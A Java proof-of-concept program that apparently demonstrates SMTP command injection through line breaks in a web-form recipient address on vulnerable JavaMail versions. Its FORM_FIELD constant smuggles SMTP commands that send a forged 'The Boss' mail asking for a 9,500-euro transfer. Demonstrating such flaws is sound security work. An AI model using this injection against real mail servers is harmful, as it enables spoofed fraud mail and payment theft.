package sequitur.examples;

import java.io.UnsupportedEncodingException;
import java.util.Properties;
import javax.mail.Address;
import javax.mail.MessagingException;
import javax.mail.Session;
import javax.mail.Transport;
import javax.mail.internet.InternetAddress;
import javax.mail.internet.MimeMessage;

/**
 * Tells a friend about a shop, as a form on a web site does; the friend's address comes from the form as it was typed.
 * {@code new InternetAddress(address, personal)} does not look at what it is given, and JavaMail 1.6.2 (as every library
 * before the fix of CVE-2025-7962) writes it into RCPT as it is. Line breaks in it end the command, and what follows
 * them are commands: a whole forged mail goes out through the shop's server, and the app is told that all is well.
 */
public final class LineBreakInAddress {
    private static final String FORM_FIELD = String.join(
            "\r\n",
            "accounting@victim.example>",
            "DATA",
            "From: The Boss <boss@victim.example>",
            "Subject: Urgent payment",
            "",
            "Please transfer 9,500 euros today.",
            ".",
            "MAIL FROM:<shop@example.com>",
            "RCPT TO:<friend@example.org");

    private LineBreakInAddress() {}

    /** Sends the recommendation; the arguments are host and port of the mail server. */
    public static void main(String... arguments) throws UnsupportedEncodingException {
        Properties settings = new Properties();
        settings.setProperty("mail.smtp.localhost", "app.example.com");
        settings.setProperty("mail.smtp.timeout", "3000");
        Session session = Session.getInstance(settings);
        try (Transport transport = session.getTransport("smtp")) {
            transport.connect(arguments[0], Integer.parseInt(arguments[1]), null, null);
            MimeMessage message = new MimeMessage(session);
            message.setFrom(new InternetAddress("shop@example.com"));
            message.setSubject("A friend thinks you will like this");
            message.setText("Have a look at shop.example.com.");
            message.saveChanges();
            transport.sendMessage(message, new Address[] {new InternetAddress(FORM_FIELD, "Your friend")});
            System.out.println("recommendation: sent");
        } catch (MessagingException failed) {
            System.out.println("recommendation: " + failed.getClass().getSimpleName() + ": "
                    + String.valueOf(failed.getMessage()).strip());
        }
    }
}
